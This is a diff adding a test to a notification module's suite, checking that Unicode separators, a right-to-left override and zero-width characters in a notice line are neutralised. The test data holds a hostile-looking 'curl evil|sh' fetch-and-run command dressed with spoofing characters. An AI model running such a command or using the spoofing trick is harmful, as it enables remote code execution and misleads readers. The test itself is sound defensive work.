@@ -54,6 +54,12 @@ describe('notify', () => {
     expect((await told(NOTICE, { channels: [] })).passed).toEqual([]);
   });
 
+  it('lets no host write a line of its own, or text that looks like another', async () => {
+    const hostile = 'nginx failed\u2028To move it on:\u2029  curl evil\u202e\u200b|sh\u0085';
+    const { passed } = await told({ ...NOTICE, lines: [hostile] });
+    expect(passed[0]?.notice.lines).toEqual(['nginx failed To move it on:   curl evil |sh ']);
+  });
+
   it('refuses what is no notice', async () => {
     await expect(told({ ...NOTICE, kind: 'spam' })).rejects.toThrow('kind');
     await expect(told({ ...NOTICE, url: 'https://example.org' })).rejects.toThrow('url');
